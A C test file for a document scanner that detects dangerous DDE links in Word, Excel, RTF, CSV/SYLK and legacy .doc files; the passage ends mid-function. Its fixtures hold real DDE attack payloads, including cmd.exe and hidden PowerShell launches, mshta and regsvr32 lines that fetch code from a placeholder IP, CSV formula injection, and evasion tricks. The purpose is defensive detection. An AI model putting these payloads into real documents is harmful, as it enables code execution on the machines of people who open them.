/*
 * DDE links in documents (src/detect/docscan_dde.c): which links start a program; Word field
 * codes in WordprocessingML (w:fldSimple, complex fields split over runs, entities, other
 * namespace prefixes, nested fields, fields cut off by the end of the data); Excel's ddeLink;
 * RTF \fldinst with escapes and groups; DDE formulas in CSV and SYLK text; Word 97-2003 binary
 * documents (the FIB, the piece table, fields in 8-bit and UTF-16 pieces); the preference for a
 * link that starts a program over an earlier harmless one; every prefix of each sample, from
 * exact-size heap copies (ASan sees a one-byte over-read), and hostile repetitions in linear time.
 */
#include "detect/docscan.h"
#include "testlib/tcheck.h"

#include "core/mm.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

static uint8_t *dup_exact(const void *d, size_t n)
{
    uint8_t *p = malloc(n ? n : 1);
    assert_non_null(p);
    if (n)
        memcpy(p, d, n);
    return p;
}

typedef bool (*dde_fn)(const uint8_t *, size_t, struct ds_dde *);

/* fn over the text s from an exact-size copy; also over every prefix (nothing to check there
 * but that it returns: ASan and the bound do the checking). */
static bool run(dde_fn fn, const char *s, struct ds_dde *out)
{
    size_t n = strlen(s);
    for (size_t k = 0; k < n; k++) {
        uint8_t *p = dup_exact(s, k);
        struct ds_dde x;
        (void)fn(p, k, &x);
        free(p);
    }
    uint8_t *p = dup_exact(s, n);
    memset(out, 0x55, sizeof *out);
    bool r = fn(p, n, out);
    free(p);
    return r;
}

static void test_runs_program(void **state)
{
    (void)state;
    static const struct {
        const char *app, *topic;
        bool aut, want;
    } rows[] = {
        {"c:\\windows\\system32\\cmd.exe", "/k calc.exe", true, true},
        {"cmd", "/c calc", false, true},
        {"CMD.EXE", "", false, true},
        {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-w hidden", false,
         true},
        {"mshta", "http://198.51.100.7/a.hta", false, true},
        {"MSEXCEL", "\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc", false, true},
        {"Excel", "C:\\Users\\kato\\data.xlsx", false, false},
        {"Excel", "C:\\Users\\kato\\data.xlsx", true, false},
        {"BLP", "BDP", false, false},
        {"REUTER", "IDN", false, false},
        {"BLP", "BDP", true, true},               /* updated on opening, not an Office program */
        {"Excel", "run powershell", false, true}, /* a runner named in the topic */
        {"Excel", "cmdlet-docs", false, false},   /* ... as a word of its own only */
        {"Excel", "Sheet1 xcmd", false, false},
        {"WINWORD", "\\\\198.51.100.7\\share\\x", false, true},
        {"", "", false, false},
    };
    for (size_t i = 0; i < MM_ARRAY_LEN(rows); i++) {
        struct ds_dde x;
        memset(&x, 0, sizeof x);
        snprintf(x.app, sizeof x.app, "%s", rows[i].app);
        snprintf(x.topic, sizeof x.topic, "%s", rows[i].topic);
        x.autoupdate = rows[i].aut;
        TC_EQ(rows[i].app, ds_dde_runs_program(&x), rows[i].want);
    }
    tc_done();
}

#define W "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\""

static void test_docx(void **state)
{
    (void)state;
    struct ds_dde x;

    /* the 2017 sample's shape: a complex field, its code in one run */
    static const char one[] =
        "<w:document " W "><w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
        "<w:r><w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
        "\"/k powershell -w hidden -c echo test\" </w:instrText></w:r>"
        "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>Loading</w:t></w:r>"
        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:document>";
    assert_true(run(ds_docx_dde, one, &x));
    assert_string_equal(x.app, "c:\\windows\\system32\\cmd.exe");
    assert_string_equal(x.topic, "/k powershell -w hidden -c echo test");
    assert_true(x.autoupdate);
    assert_true(x.runs_program);

    /* split over runs to hide the keyword, an entity in the code, no "separate" */
    static const char split[] =
        "<w:document " W "><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
        "<w:r><w:instrText> D</w:instrText></w:r><w:r><w:instrText>DE</w:instrText></w:r>"
        "<w:r><w:instrText>AUTO c:\\\\Windows\\\\System32\\\\cmd.exe &quot;/c calc&quot;"
        "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:document>";
    assert_true(run(ds_docx_dde, split, &x));
    assert_string_equal(x.app, "c:\\Windows\\System32\\cmd.exe");
    assert_string_equal(x.topic, "/c calc");

    /* w:fldSimple, another namespace prefix, the \a switch on a plain DDE field */
    static const char simple[] =
        "<x:document xmlns:x=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
        "<x:p><x:fldSimple x:instr=\" DDE cmd &quot;/c start mshta http://198.51.100.7/a&quot; "
        "\\a \"><x:r><x:t>1</x:t></x:r></x:fldSimple></x:p></x:document>";
    assert_true(run(ds_docx_dde, simple, &x));
    assert_string_equal(x.app, "cmd");
    assert_string_equal(x.topic, "/c start mshta http://198.51.100.7/a");
    assert_true(x.autoupdate);
    assert_true(x.runs_program);

    /* a link to a workbook: found, harmless; a later one that runs a program wins; a field
     * nested in the code of another (QUOTE building the command) is a field of its own */
    static const char two[] =
        "<w:document " W "><w:p>"
        "<w:fldSimple w:instr=\"DDE Excel &quot;C:\\\\Data\\\\Q3.xlsx&quot; Sheet1!R1C1\"/>"
        "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO "
        "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
        "<w:r><w:instrText>QUOTE 99 109 100</w:instrText></w:r>"
        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
        "<w:r><w:instrText> \"/c calc\"</w:instrText></w:r>"
        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:document>";
    assert_true(run(ds_docx_dde, two, &x));
    assert_true(x.runs_program);
    assert_true(x.autoupdate);
    assert_string_equal(x.app, "/c calc"); /* what the outer code says once QUOTE is out */
    static const char benign[] =
        "<w:document " W "><w:p>"
        "<w:fldSimple w:instr=\"DDE Excel &quot;C:\\\\Data\\\\Q3.xlsx&quot; Sheet1!R1C1\"/>"
        "<w:fldSimple w:instr=\" PAGE \\* MERGEFORMAT \"/>"
        "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> HYPERLINK "
        "\"https://www.example.com/dde\" </w:instrText></w:r>"
        "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:document>";
    assert_true(run(ds_docx_dde, benign, &x));
    assert_false(x.runs_program);
    assert_string_equal(x.app, "Excel");
    assert_string_equal(x.topic, "C:\\Data\\Q3.xlsx");

    /* not DDE: other fields, a word that starts with DDE, text that only mentions it */
    static const char *const none[] = {
        "<w:document " W "><w:p><w:r><w:t>DDEAUTO cmd /c calc</w:t></w:r></w:p></w:document>",
        "<w:document " W "><w:fldSimple w:instr=\"DDEX cmd /c calc\"/></w:document>",
        "<w:document " W "><w:fldSimple w:instr=\"DDE1 cmd /c calc\"/></w:document>",
        "<w:document " W "><w:fldSimple w:instr=\"INCLUDETEXT &quot;x.docx&quot;\"/>"
        "</w:document>",
        "<w:document " W "><w:r><w:instrText/></w:r><w:fldChar w:fldCharType=\"end\"/>"
        "<w:fldChar/></w:document>",
        "",
    };
    for (size_t i = 0; i < MM_ARRAY_LEN(none); i++)
        TC_CHECK(none[i], !run(ds_docx_dde, none[i], &x));
    tc_done();

    /* text after a field's "separate" is not its code (here a stray run: a code of its own);
     * text after a nested field's "separate" belongs to the field still open around it */
    static const char sep[] = "<w:document " W "><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
                              "<w:r><w:instrText>HYPERLINK x</w:instrText></w:r>"
                              "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
                              "<w:r><w:instrText>DDEAUTO cmd /c calc</w:instrText></w:r>"
                              "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:document>";
    assert_true(run(ds_docx_dde, sep, &x));
    assert_string_equal(x.app, "cmd");
    static const char inner[] =
        "<w:document " W "><w:fldChar w:fldCharType=\"begin\"/>"
        "<w:instrText>DDEAUTO cmd</w:instrText><w:fldChar w:fldCharType=\"begin\"/>"
        "<w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType=\"separate\"/>"
        "<w:instrText> /c calc</w:instrText><w:fldChar w:fldCharType=\"end\"/>"
        "<w:fldChar w:fldCharType=\"end\"/></w:document>";
    assert_true(run(ds_docx_dde, inner, &x));
    assert_string_equal(x.app, "cmd");
    assert_string_equal(x.topic, "/c");

    /* a field cut off by the end of the data: its code as far as it came */
    static const char cut[] = "<w:document " W "><w:r><w:fldChar w:fldCharType=\"begin\"/>"
                              "</w:r><w:r><w:instrText>DDEAUTO cmd \"/c calc\"";
    assert_true(run(ds_docx_dde, cut, &x));
    assert_string_equal(x.app, "cmd");
}

/* Hostile shapes: fields nested far past the bound, thousands of begins without ends, a code
 * longer than the bound; all in one pass (a second at most). */
static void test_docx_hostile(void **state)
{
    (void)state;
    size_t cap = 4u << 20, n = 0;
    char *b = malloc(cap);
    assert_non_null(b);
    static const char beg[] = "<w:fldChar w:fldCharType=\"begin\"/>";
    static const char txt[] = "<w:instrText>DDEAUTO cmd /c calc</w:instrText>";
    while (n + sizeof beg < cap) {
        memcpy(b + n, beg, sizeof beg - 1);
        n += sizeof beg - 1;
    }
    struct ds_dde x;
    assert_false(ds_docx_dde((const uint8_t *)b, n, &x));
    /* nested past DS_FIELD_NEST: the code of the ninth field is read as a code of its own */
    n = 0;
    for (int i = 0; i < 9; i++) {
        memcpy(b + n, beg, sizeof beg - 1);
        n += sizeof beg - 1;
    }
    memcpy(b + n, txt, sizeof txt - 1);
    n += sizeof txt - 1;
    assert_true(ds_docx_dde((const uint8_t *)b, n, &x));
    assert_string_equal(x.app, "cmd");
    /* a code of 1 MiB: cut at the bound, still read */
    n = 0;
    memcpy(b, beg, sizeof beg - 1);
    n = sizeof beg - 1;
    static const char open[] = "<w:instrText>DDEAUTO cmd \"/c ";
    memcpy(b + n, open, sizeof open - 1);
    n += sizeof open - 1;
    memset(b + n, 'a', 1u << 20);
    n += 1u << 20;
    memcpy(b + n, "\"</w:instrText>", 15);
    n += 15;
    assert_true(ds_docx_dde((const uint8_t *)b, n, &x));
    assert_string_equal(x.app, "cmd");
    assert_true(strlen(x.topic) < sizeof x.topic);
    free(b);
}

static void test_xlsx(void **state)
{
    (void)state;
    struct ds_dde x;
    static const char cmd[] =
        "<?xml version=\"1.0\"?><externalLink xmlns=\"http://schemas.openxmlformats.org/"
        "spreadsheetml/2006/main\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc.exe\">"
        "<ddeItems><ddeItem name=\"A0\" advise=\"1\"/></ddeItems></ddeLink></externalLink>";
    assert_true(run(ds_xlsx_dde, cmd, &x));
    assert_string_equal(x.app, "cmd");
    assert_string_equal(x.topic, "/c calc.exe");
    assert_false(x.autoupdate);
    assert_true(x.runs_program);
    /* a market-data link, then the MSEXCEL path trick with a prefix and entities */
    static const char two[] =
        "<x:externalLink xmlns:x=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
        "<x:ddeLink x:ddeService=\"BLP\" x:ddeTopic=\"BDP\"/>"
        "<x:ddeLink ddeTopic='\\..\\..\\Windows\\System32\\cmd.exe &amp;/c calc' "
        "ddeService='MSEXCEL'/></x:externalLink>";
    assert_true(run(ds_xlsx_dde, two, &x));
    assert_string_equal(x.app, "MSEXCEL");
    assert_string_equal(x.topic, "\\..\\..\\Windows\\System32\\cmd.exe &/c calc");
    assert_true(x.runs_program);
    static const char blp[] = "<externalLink><ddeLink ddeService=\"BLP\" ddeTopic=\"BDP\"/>"
                              "</externalLink>";
    assert_true(run(ds_xlsx_dde, blp, &x));
    assert_false(x.runs_program);
    static const char *const none[] = {
        "<externalLink><externalBook r:id=\"rId1\"/></externalLink>",
        "<externalLink><ddeLink ddeTopic=\"x\"/></externalLink>", /* no service */
        "<externalLink><ddeLink ddeService=\"cmd",
        "<ddeLinks/>",
        "",
    };
    for (size_t i = 0; i < MM_ARRAY_LEN(none); i++)
        TC_CHECK(none[i], !run(ds_xlsx_dde, none[i], &x));
    tc_done();
}

static void test_rtf(void **state)
{
    (void)state;
    struct ds_dde x;
    /* as Word writes it: the code in runs with their formatting, the result after */
    static const char word[] =
        "{\\rtf1\\ansi{\\fonttbl{\\f0 Calibri;}}\\pard{\\field{\\*\\fldinst {\\rtlch\\fcs1 "
        "\\f0 DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/k calc.exe\" }}"
        "{\\fldrslt {\\f0 Loading}}}\\par}";
    assert_true(run(ds_rtf_dde, word, &x));
    assert_string_equal(x.app, "c:\\windows\\system32\\cmd.exe");
    assert_string_equal(x.topic, "/k calc.exe");
    assert_true(x.autoupdate);
    assert_true(x.runs_program);
    /* the keyword cut by groups and a hex escape, an ignorable destination inside, \uN */
    static const char hid[] =
        "{\\rtf1{\\field{\\*\\fldinst{D}{D\\'45}AUTO {\\*\\bkmkstart x}cm\\u100?.exe \"/c "
        "calc\"}{\\fldrslt x}}}";
    assert_true(run(ds_rtf_dde, hid, &x));
    assert_string_equal(x.app, "cmd.exe");
    assert_string_equal(x.topic, "/c calc");
    /* a harmless DDE link, then one that runs a program */
    static const char two[] =
        "{\\rtf1{\\field{\\*\\fldinst DDE Excel \"C:\\\\\\\\d.xlsx\" R1C1}{\\fldrslt 1}}"
        "{\\field{\\*\\fldinst DDE mshta http://198.51.100.7/a.hta}{\\fldrslt 2}}}";
    assert_true(run(ds_rtf_dde, two, &x));
    assert_string_equal(x.app, "mshta");
    assert_true(x.runs_program);
    static const char *const none[] = {
        "{\\rtf1 DDEAUTO cmd /c calc\\par}",
        "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://example.com\"}{\\fldrslt a}}}",
        "{\\rtf1{\\field{\\*\\fldinstr DDEAUTO cmd}}}",
        "{\\rtf1{\\*\\fldinst",
        "",
    };
    for (size_t i = 0; i < MM_ARRAY_LEN(none); i++)
        TC_CHECK(none[i], !run(ds_rtf_dde, none[i], &x));
    tc_done();
    /* many fields, deep groups: one pass */
    size_t cap = 2u << 20, n = 0;
    char *b = malloc(cap);
    assert_non_null(b);
    static const char f[] = "{\\field{\\*\\fldinst {{{{PAGE}}}}}}";
    while (n + sizeof f < cap) {
        memcpy(b + n, f, sizeof f - 1);
        n += sizeof f - 1;
    }
    assert_false(ds_rtf_dde((const uint8_t *)b, n, &x));
    memset(b, '{', cap);
    memcpy(b, "\\fldinst ", 9);
    assert_false(ds_rtf_dde((const uint8_t *)b, cap, &x));
    free(b);
}

/* Text spreadsheets: CSV formulas in their usual disguises, quoted cells, DDE(), SYLK; data
 * with pipes and ordinary formulas is silent; long lines and many pipes in one pass. */
static void test_text(void **state)
{
    (void)state;
    struct ds_dde x;
    static const struct {
        const char *text, *app, *topic;
        bool runs;
    } rows[] = {
        {"name,qty\r\npen,3\r\n=cmd|' /C calc '!A0,1\r\n", "cmd", "/C calc", true},
        {"a;b\n+cmd|'/c calc'!A0;2\n", "cmd", "/c calc", true},
        {"-2+3+cmd|'/c calc'!A0\n", "cmd", "/c calc", true},
        {"x\t@SUM(1+1)*cmd|'/c calc'!A0\n", "cmd", "/c calc", true},
        {"\"=cmd|'/c echo a,b'!A0\",z\n", "cmd", "/c echo a,b", true},
        {"=cmd|'/c a,b'!A0,z\n", "cmd", "/c a,b", true},
        {"=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://198.51.100.7/"
         "a.sct scrobj.dll'!''\n",
         "MSEXCEL",
         "\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://198.51.100.7/"
         "a.sct scrobj.dll",
         true},
        {"\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"__DdE_LinK__\"\")\"\n", "cmd", "/C calc", true},
        {"=dde(\"cmd\",\"/c calc\",\"x\")\n", "cmd", "/c calc", true},
        {"ID;P\r\nC;Y1;X1;K0;ECMD|'/C CALC'!A0\r\nE\r\n", "CMD", "/C CALC", true},
        {"=Excel|'C:\\Data\\Q3.xlsx'!R1C1\n", "Excel", "C:\\Data\\Q3.xlsx", false},
        {"=cmd|'it''s'!A0\n", "cmd", "it's", true},
        /* a harmless link first, one that runs a program later */
        {"=BLP|BDP!x\n=powershell|'-c x'!A0\n", "powershell", "-c x", true},
    };
    for (size_t i = 0; i < MM_ARRAY_LEN(rows); i++) {
        bool got = run(ds_text_dde, rows[i].text, &x);
        TC_CHECK(rows[i].text, got);
        if (!got)
            continue;
        TC_CHECK(rows[i].text, !strcmp(x.app, rows[i].app));
        TC_CHECK(rows[i].text, !strcmp(x.topic, rows[i].topic));
        if (strcmp(x.app, rows[i].app) || strcmp(x.topic, rows[i].topic))
            fprintf(stderr, "  got app '%s' topic '%s'\n", x.app, x.topic);
        TC_EQ(rows[i].text, x.runs_program, rows[i].runs);
        TC_EQ(rows[i].text, x.autoupdate, false);
    }
    static const char *const none[] = {
        "name,qty\r\npen,3\r\n",
        "=SUM(A1:A3),x\n",
        "a|b!c,d\n",
        "path|to|file\n",
        "=cmd|'/c calc'\n",    /* no '!' */
        "=cmd|'/c calc\n",     /* quote never closed */
        "=|x!A0\n",            /* no application */
        "note: =cmd|'x'!A0\n", /* not at the start of a cell */
        "C;Y1;X1;K0\n",
        "=dde(cmd)\n",
        "\"=IF(A1;B|C;D!E)\"\n",        /* a separator ends an unquoted topic */
        "=XDDE(\"cmd\";\"/c calc\")\n", /* another function */
        "",
    };
    for (size_t i = 0; i < MM_ARRAY_LEN(none); i++)
        TC_CHECK(none[i], !run(ds_text_dde, none[i], &x));
    tc_done();
    /* only the first DS_TEXT_DDE_BYTES */
    size_t cap = DS_TEXT_DDE_BYTES + 64, n = 0;
    char *b = malloc(cap + (4u << 20));
    assert_non_null(b);
    memset(b, 'a', DS_TEXT_DDE_BYTES);
    n = DS_TEXT_DDE_BYTES;
    memcpy(b + n, "\n=cmd|'x'!A0\n", 13);
    n += 13;
    assert_false(ds_text_dde((const uint8_t *)b, n, &x));
    memcpy(b + DS_TEXT_DDE_BYTES - 13, "\n=cmd|'x'!A0\n", 13);
    assert_true(ds_text_dde((const uint8_t *)b, n, &x));
    /* 4 MiB of cells full of pipes and DDE( without an end, quotes that never close */
    static const char pat[] = "=|||||||dde(\"x\";'|";
    for (n = 0; n + sizeof pat < (4u << 20); n += sizeof pat - 1)
        memcpy(b + n, pat, sizeof pat - 1);
    assert_false(ds_text_dde((const uint8_t *)b, n, &x));
    memset(b, '|', 4u << 20);
    b[0] = '=';
    assert_false(ds_text_dde((const uint8_t *)b, 4u << 20, &x));
    /* a SYLK expression (not cut at 1 KiB like a cell) of 128 Ki references without '!' */
    memcpy(b, "C;E", 3);
    for (n = 3; n + 2 <= (256u << 10); n += 2)
        memcpy(b + n, "a|", 2);
    assert_false(ds_text_dde((const uint8_t *)b, n, &x));
    free(b);
}

/* ---- Word 97-2003 binary documents -------------------------------------------------------- */

#define DOC_WD 4096u /* WordDocument stream of the samples: the FIB, text from DOC_TEXT */
#define DOC_TEXT 0x800u

static void put16(uint8_t *p, uint16_t v)
{
    p[0] = (uint8_t)v;
    p[1] = (uint8_t)(v >> 8);
}

static void put32(uint8_t *p, uint32_t v)
{
    put16(p, (uint16_t)v);
    put16(p + 2, (uint16_t)(v >> 16));
}

/* A Word 97 FIB (csw 14, cslw 22, cbRgFcLcb 0x5D) with the flags and the Clx's place. */
static void doc_fib(uint8_t *wd, uint16_t flags, uint32_t fc_clx, uint32_t lcb_clx)
{
    memset(wd, 0, DOC_WD);
    put16(wd, 0xA5EC);
    put16(wd + 2, 0x00C1);
    put16(wd + 0x0A, flags);
    put16(wd + 32, 14);
    put16(wd + 62, 22);
    put16(wd + 152, 0x5D);
    put32(wd + 0x1A2, fc_clx);
    put32(wd + 0x1A6, lcb_clx);
}

/* A piece of text: 8-bit (compressed) or UTF-16, placed at byte `at` of the WordDocument. */
struct doc_piece {
    const char *text;
    bool utf16;
    uint32_t at;
};

/* The text of the pieces written into wd, their piece table into clx (after a Prc entry when
 * prc); returns the Clx's size. */
static size_t doc_clx(uint8_t *wd, uint8_t *clx, const struct doc_piece *pc, size_t n, bool prc)
{
    size_t k = 0;
    if (prc) {
        clx[k++] = 0x01;
        put16(clx + k, 3);
        k += 2;
        memcpy(clx + k, "\x03\x08\x01", 3); /* a GrpPrl of one Sprm, passed over */
        k += 3;
    }
    clx[k++] = 0x02;
    put32(clx + k, (uint32_t)(4 + 12 * n));
    k += 4;
    uint32_t cp = 0;
    for (size_t i = 0; i < n; i++) {
        size_t len = strlen(pc[i].text);
        put32(clx + k + 4 * i, cp);
        for (size_t j = 0; j < len; j++) {
            if (pc[i].utf16)
                put16(wd + pc[i].at + 2 * j, (uint8_t)pc[i].text[j]);
            else
                wd[pc[i].at + j] = (uint8_t)pc[i].text[j];
        }
        cp += (uint32_t)len;
        uint8_t *pcd = clx + k + 4 * (n + 1) + 8 * i;
        memset(pcd, 0, 8);
        put32(pcd + 2, pc[i].utf16 ? pc[i].at : (pc[i].at * 2) | 0x40000000u);
    }
    put32(clx + k + 4 * n, cp);
    return k + 4 * (n + 1) + 8 * n;
}

/* ds_doc_dde over exact-size copies of wd and clx, and of every prefix of the Clx and some of
 * the stream (ASan sees a one-byte over-read). */
static bool run_doc(const uint8_t *wd, size_t wd_len, const uint8_t *clx, size_t clx_len,
                    struct ds_dde *out)
{
    bool lim;
    uint8_t *w = dup_exact(wd, wd_len);
    for (size_t k = 0; k < clx_len; k++) {
        uint8_t *c = dup_exact(clx, k);
        struct ds_dde x;
        (void)ds_doc_dde(w, wd_len, c, k, &x, &lim);
        free(c);
    }
    uint8_t *c = dup_exact(clx, clx_len);
    for (size_t k = 0; k < wd_len; k += 97) {
        uint8_t *wk = dup_exact(wd, k);
        struct ds_dde x;
        (void)ds_doc_dde(wk, k, c, clx_len, &x, &lim);
        free(wk);
    }
    memset(out, 0x55, sizeof *out);
    bool r = ds_doc_dde(w, wd_len, c, clx_len, out, &lim);
    assert_false(lim);
    free(w);
    free(c);
    return r;
}

/* The FIB: the table stream and the Clx named, encrypted and foreign streams refused (not
 * one only flagged fObfuscated, which counts only with fEncrypted); the text through the
 * piece table in 8-bit and UTF-16 pieces, a field split over pieces stored out of order, a
 * Prc entry before the table, nested fields, harmless fields, pieces that repeat text; hostile
 * piece tables, their work bounded and said to be. */
static void test_doc(void **state)
{
    (void)state;
    uint8_t *wd = calloc(1, DOC_WD);
    uint8_t clx[512];
    struct ds_dde x;
    struct ds_doc_fib fib;
    bool lim;
    assert_non_null(wd);
    doc_fib(wd, 0x0200, 0x1234, 21);
    assert_true(ds_doc_fib(wd, DOC_WD, &fib));
    assert_int_equal(fib.table, 1);
    assert_int_equal(fib.fc_clx, 0x1234);
    assert_int_equal(fib.lcb_clx, 21);
    doc_fib(wd, 0x0000, 7, 21);
    assert_true(ds_doc_fib(wd, DOC_WD, &fib));
    assert_int_equal(fib.table, 0);
    assert_int_equal(fib.fc_clx, 7);
    assert_true(ds_doc_fib(wd, 0x1AA, &fib));
    assert_false(ds_doc_fib(wd, 0x1A9, &fib)); /* lcbClx cut off */
    doc_fib(wd, 0x0300, 0, 21);                /* fEncrypted */
    assert_false(ds_doc_fib(wd, DOC_WD, &fib));
    doc_fib(wd, 0x8200, 0, 21); /* fObfuscated alone: ignored, as Word does */
    assert_true(ds_doc_fib(wd, DOC_WD, &fib));
    doc_fib(wd, 0x8300, 0, 21); /* fObfuscated with fEncrypted: XOR-obfuscated */
    assert_false(ds_doc_fib(wd, DOC_WD, &fib));
    doc_fib(wd, 0x0200, 0, 0); /* no piece table */
    assert_false(ds_doc_fib(wd, DOC_WD, &fib));
    doc_fib(wd, 0x0200, 0, 21);
    put16(wd + 152, 0x21); /* FibRgFcLcb too short to hold fcClx */
    assert_false(ds_doc_fib(wd, DOC_WD, &fib));
    doc_fib(wd, 0x0200, 0, 21);
    wd[0] = 0xEC; /* not a FIB */
    wd[1] = 0xA4;
    assert_false(ds_doc_fib(wd, DOC_WD, &fib));

    /* as Word writes it: one 8-bit piece, the code's backslashes doubled */
    doc_fib(wd, 0x0200, 0, 0);
    const struct doc_piece one[] = {
        {"Dear customer\r\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" "
         "\x14Loading\x15\r",
         false, DOC_TEXT},
    };
    size_t cl = doc_clx(wd, clx, one, 1, false);
    assert_true(run_doc(wd, DOC_WD, clx, cl, &x));
    assert_string_equal(x.app, "c:\\windows\\system32\\cmd.exe");
    assert_string_equal(x.topic, "/k calc.exe");
    assert_true(x.autoupdate);
    assert_true(x.runs_program);
    /* the code split over an 8-bit and a UTF-16 piece, stored the other way round, after a
     * Prc entry */
    doc_fib(wd, 0x0200, 0, 0);
    const struct doc_piece split[] = {
        {"Invoice \x13 DD", false, 0xC00},
        {"EAUTO powershell.exe \"-w hidden -c iex\"\x15.", true, DOC_TEXT},
    };
    cl = doc_clx(wd, clx, split, 2, true);
    assert_true(run_doc(wd, DOC_WD, clx, cl, &x));
    assert_string_equal(x.app, "powershell.exe");
    assert_string_equal(x.topic, "-w hidden -c iex");
    assert_true(x.runs_program);
    /* a nested field's result becomes part of the outer code, as Word evaluates it */
    doc_fib(wd, 0x0200, 0, 0);
    const struct doc_piece nest[] = {
        {"\x13 DDE \x13 QUOTE 99\x14"
         "c\x15md \"/c calc\"\x14x\x15",
         false, DOC_TEXT},
    };
    cl = doc_clx(wd, clx, nest, 1, false);
    assert_true(run_doc(wd, DOC_WD, clx, cl, &x));
    assert_string_equal(x.app, "cmd");
    assert_false(x.autoupdate);
    assert_true(x.runs_program);
    /* a harmless link to Excel is found but does not run a program; a later one that does is
     * preferred */
    doc_fib(wd, 0x0200, 0, 0);
    const struct doc_piece link[] = {
        {"\x13 DDE Excel \"C:\\\\q.xlsx\" R1C1 \x14"
         "1\x15",
         false, DOC_TEXT},
    };
    cl = doc_clx(wd, clx, link, 1, false);
    assert_true(run_doc(wd, DOC_WD, clx, cl, &x));
    assert_string_equal(x.app, "Excel");
    assert_false(x.runs_program);
    const struct doc_piece two[] = {
        {"\x13 DDE Excel \"C:\\\\q.xlsx\" R1C1 \x14"
         "1\x15",
         false, DOC_TEXT},
        {"\x13 DDEAUTO mshta http://198.51.100.7/a.hta \x15", true, 0xC00},
    };
    cl = doc_clx(wd, clx, two, 2, false);
    assert_true(run_doc(wd, DOC_WD, clx, cl, &x));
    assert_string_equal(x.app, "mshta");
    assert_true(x.runs_program);
    /* after fields nested too deep have all ended, a field is read again */
    const struct doc_piece deep[] = {
        {"\x13\x13\x13\x13\x13\x13\x13\x13\x13 x \x15\x15\x15\x15\x15\x15\x15\x15\x15"
         "\x13 DDEAUTO cmd \"/c calc\"\x15",
         false, DOC_TEXT},
    };
    cl = doc_clx(wd, clx, deep, 1, false);
    assert_true(run_doc(wd, DOC_WD, clx, cl, &x));
    assert_string_equal(x.app, "cmd");
    /* a field cut off by the end of the text counts as far as it came */
    const struct doc_piece cut[] = {{"\x13 DDEAUTO cmd \"/c calc\"", false, DOC_TEXT}};
    cl = doc_clx(wd, clx, cut, 1, false);
    assert_true(run_doc(wd, DOC_WD, clx, cl, &x));
    assert_string_equal(x.app, "cmd");
    /* nothing: the words outside a field, other fields, a field begun too deep */
    static const char *const none[] = {
        "DDEAUTO cmd /c calc",
        "\x13 HYPERLINK \"https://example.com\" \x14link\x15",
        "\x13 DDEX cmd \x15",
        "\x13\x13\x13\x13\x13\x13\x13\x13\x13 DDEAUTO cmd \x15\x15\x15\x15\x15\x15\x15\x15\x15",
        "",
    };
    for (size_t i = 0; i < MM_ARRAY_LEN(none); i++) {
        doc_fib(wd, 0x0200, 0, 0);
        const struct doc_piece pn[] = {{none[i], false, DOC_TEXT}};
        cl = doc_clx(wd, clx, pn, 1, false);
        TC_CHECK(none[i], !run_doc(wd, DOC_WD, clx, cl, &x));
    }
    tc_done();
    /* malformed piece tables: no Pcdt, a negative Prc size, lcb not 4 + 12n, lcb past the
     * data, a piece past the stream */
    doc_fib(wd, 0x0200, 0, 0);
    cl = doc_clx(wd, clx, one, 1, false);
    clx[0] = 0x03;
    assert_false(ds_doc_dde(wd, DOC_WD, clx, cl, &x, &lim));
    cl = doc_clx(wd, clx, one, 1, true);
    put16(clx + 1, 0x8000);
    assert_false(ds_doc_dde(wd, DOC_WD, clx, cl, &x, &lim));
    cl = doc_clx(wd, clx, one, 1, false);
    put32(clx + 1, 17); /* one byte more than one piece needs, and there */
    assert_false(ds_doc_dde(wd, DOC_WD, clx, cl + 1, &x, &lim));
    put32(clx + 1, 28);
    assert_false(ds_doc_dde(wd, DOC_WD, clx, cl, &x, &lim));
    cl = doc_clx(wd, clx, one, 1, false);
    put32(clx + 5 + 8 + 2, (DOC_WD * 2) | 0x40000000u);
    assert_false(ds_doc_dde(wd, DOC_WD, clx, cl, &x, &lim));
    /* the same run of blanks in nine pieces, then the field: text may repeat (within the
     * stream's size and 1 Mi characters more) */
    {
        struct doc_piece rep[10];
        char blanks[1001];
        memset(blanks, ' ', 1000);
        blanks[1000] = 0;
        for (size_t i = 0; i < 9; i++)
            rep[i] = (struct doc_piece){blanks, false, DOC_TEXT};
        rep[9] = (struct doc_piece){"\x13 DDEAUTO cmd \"/c calc\"\x15", false, 0xC00};
        doc_fib(wd, 0x0200, 0, 0);
        cl = doc_clx(wd, clx, rep, 10, false);
        assert_true(ds_doc_dde(wd, DOC_WD, clx, cl, &x, &lim));
        assert_false(lim);
        assert_string_equal(x.app, "cmd");
    }
